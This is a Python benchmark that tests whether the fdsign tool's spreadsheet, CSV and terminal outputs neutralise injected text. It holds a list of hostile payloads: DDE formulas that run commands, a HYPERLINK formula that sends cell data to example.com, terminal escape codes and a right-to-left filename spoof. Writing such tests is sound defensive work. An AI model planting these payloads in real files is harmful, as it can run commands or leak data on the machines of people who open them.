"""Texts that a spreadsheet or terminal could obey, in every field that reaches an output."""

from __future__ import annotations

import csv
import json
import re
import tempfile
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from io import StringIO
from pathlib import Path

from openpyxl import load_workbook

from benchmarks import folders, results, runs

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://example.com/?"&A1,"x")',
    "dde": "=cmd|'/C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "full width": "＝1+1",
    "blank": " =1+1",
    "quoted": '"=1+1"',
    "rich markup": "[b]bold[/b][link=http://example.com]x[/link]",
    "broken markup": "[/nothing]",
    "colour code": "\x1b[31mred\x1b[0m",
    "title code": "\x1b]0;title\x07",
    "bell": "a\x07b",
    "backspaces": "abc\b\b\bxyz",
    "eight-bit code": "a\x9b31mb",
    "right to left": "a\u202egpj.exe",
    "braces": "{{x}} {0} {x!r} %s %(x)s",
    "tag": "<b>bold</b><script>x</script>&amp;",
    "address": "http://example.com/a",
    "number": "0012345",
    "escape": "_x000D_=1+1",
}

_SIGNS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
_BIDI = {chr(n) for n in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))}
_FIELDS = {
    "doctor": ("签约医生", "责任医生"),
    "institution": ("签约机构", "管理机构"),
    "team": ("签约团队", None),
    "station": ("服务站", None),
    "community": (None, "社区"),
    "grid": (None, "网格"),
    "status": ("签约状态", "档案状态"),
    "group": ("人群分类", None),
}
_FEW = ("status", "group")
_CONTRACTS = "签约明细.csv"


@dataclass(slots=True)
class Found:
    """Faults by output, and in how many outputs' cells the text of a field stood unharmed."""

    faults: Counter[str] = field(default_factory=Counter)
    examples: dict[str, str] = field(default_factory=dict)
    carried: Counter[str] = field(default_factory=Counter)
    cells: int = 0

    def blame(self, what: str, text: str) -> None:
        """Count a fault and keep the first text that shows it."""
        self.faults[what] += 1
        self.examples.setdefault(what, ascii(text)[:80])


def poisoned(folder: Path, payload: str) -> None:
    """A small folder with the payload in every field, in the headings and in a file's name."""
    tables = folders.sound(60)
    contracts, register = tables[folders.CONTRACTS], tables[folders.REGISTER]
    for name, headings in _FIELDS.items():
        rows = (7, 11) if name in _FEW else tuple(range(2, 20))
        for table, heading in zip((contracts, register), headings, strict=True):
            if heading is not None:
                folders.put(table, heading, rows, _in(name, payload))
    for row in contracts:
        row.append(_in("heading", payload) if row is contracts[0] else "x")
    folders.put(tables[folders.VISITS], "就诊日期", (4,), "16-1-1")
    named = _in("file", payload).replace("/", "∕") + ".csv"
    tables[named] = tables.pop(folders.VISITS)
    tables[_CONTRACTS] = tables.pop(folders.CONTRACTS)
    folders.write(folder, tables)


def _in(name: str, payload: str) -> str:
    """The payload as it stands in one field."""
    return f"{payload}·{name}"


def examine(payload: str, own: set[str]) -> Found:
    """Run both commands on a poisoned folder and look through all that they made."""
    found = Found()
    with tempfile.TemporaryDirectory() as place:
        exports = Path(place, "exports")
        poisoned(exports, payload)
        for command in ("metrics", "check"):
            out = Path(place, command)
            out.mkdir()
            ending = _run(command, exports, out)
            if ending.fault or ending.code not in (0, 3):
                found.blame(f"{command}: {ending.fault or ending.code}", ending.err)
                continue
            _terminal(ending, payload, found)
            _workbook(out / "result.xlsx", payload, own, found)
            for table in (out / "tables").iterdir():
                _table(table, found)
            json.loads((out / "result.json").read_text("utf-8"))
    return found


def _run(command: str, exports: Path, out: Path) -> runs.Ending:
    return runs.fdsign(
        command, exports, "--year", str(folders.YEAR), "-o", out / "result.xlsx",
        "--json", out / "result.json", "--csv", out / "tables",
    )  # fmt: skip


def own_formulas() -> set[str]:
    """The shapes of the formulas that fdsign itself writes, from a sound folder."""
    with tempfile.TemporaryDirectory() as place:
        exports = Path(place, "exports")
        folders.write(exports, folders.sound(60))
        _run("metrics", exports, Path(place))
        return {_shape(text) for kind, text in _cells(Path(place, "result.xlsx")) if kind == "f"}


def _shape(formula: str) -> str:
    """A formula without its numbers and letters of columns."""
    return "".join("#" if sign.isdigit() or sign.isupper() else sign for sign in formula)


def _cells(path: Path) -> Iterator[tuple[str, str]]:
    """Kind and text of every cell that holds something; ``l`` for the target of a link."""
    for page in load_workbook(path):
        for row in page.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield cell.data_type, str(cell.value)
                if cell.hyperlink is not None and cell.hyperlink.target:
                    yield "l", str(cell.hyperlink.target)


def _workbook(path: Path, payload: str, own: set[str], found: Found) -> None:
    """No formula but fdsign's own, no link outward; the payload stands there as text."""
    bare = _bare(payload)
    for kind, text in _cells(path):
        found.cells += 1
        if kind == "f" and (bare in _bare(text) or _shape(text) not in own):
            found.blame("formula in a workbook", text)
        if kind == "l":
            found.blame("link in a workbook", text)
        shown = _bare(_unescaped(text))
        for name in (*_FIELDS, "heading", "file"):
            if kind == "s" and bare in shown and f"·{name}" in text:
                found.carried[name] += 1


def _bare(text: str) -> str:
    """Without what may rightly be dropped or made visible: blanks and unprintable signs."""
    return "".join(s for s in text if s.isprintable() and not s.isspace() and s != "�")


def _unescaped(text: str) -> str:
    """A workbook's text as Excel shows it: control characters are written ``_x0007_``."""
    return _ESCAPE.sub(lambda code: chr(int(code[1], 16)), text)


def _table(path: Path, found: Found) -> None:
    """No cell of a CSV file that a spreadsheet would reckon."""
    for row in csv.reader(StringIO(path.read_text("utf-8-sig"), newline="")):
        for cell in row:
            found.cells += 1
            if cell.startswith(_SIGNS) and not _number(cell):
                found.blame("formula sign in a CSV cell", cell)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _terminal(ending: runs.Ending, payload: str, found: Found) -> None:
    """No control characters; square brackets are shown as they are."""
    found.carried["terminal"] += _bare(payload) in _bare(ending.out)
    for sign in ending.out + ending.err:
        if (not sign.isprintable() and sign not in "\n\u3000") and (
            ord(sign) < 32 or 127 <= ord(sign) < 160 or sign in _BIDI
        ):
            found.blame("control character in the terminal", sign)


def main(arguments: Sequence[str] | None = None) -> int:
    """Try the payloads, write the result; 1 if one was obeyed."""
    parser = results.options(__doc__)
    parser.add_argument("--count", type=int, default=len(PAYLOADS), help="only the first so many")
    asked = parser.parse_args(arguments)
    own = own_formulas()
    rows, total, cells = [], Counter[str](), 0
    for name, payload in list(PAYLOADS.items())[: asked.count]:
        found = examine(payload, own)
        total += found.faults
        cells += found.cells
        said = "; ".join(f"{what} × {n}, as {found.examples[what]}"
                         for what, n in found.faults.items())  # fmt: skip
        lost = [
            each for each in (*_FIELDS, "heading", "file", "terminal") if not found.carried[each]
        ]
        rows.append((name, ascii(payload), said or "none", ", ".join(lost) or "none"))
        print(rows[-1], flush=True)
    counts = {
        "payloads": len(rows),
        "fields": len(_FIELDS) + 2,
        "cells looked at": cells,
        "formulas produced": total["formula in a workbook"] + total["formula sign in a CSV cell"],
        "other faults": sum(total.values()) - total["formula in a workbook"]
        - total["formula sign in a CSV cell"],
    }  # fmt: skip
    result = results.Result(
        "injection", "Texts that could be obeyed",
        f"python -m benchmarks.injection --count {asked.count}",
        counts, ("formulas produced", "other faults"),
        ("payload", "text", "faults", "fields and places that do not show the text unchanged"), rows,
    )  # fmt: skip
    return results.publish(result, asked.results)


if __name__ == "__main__":
    raise SystemExit(main())
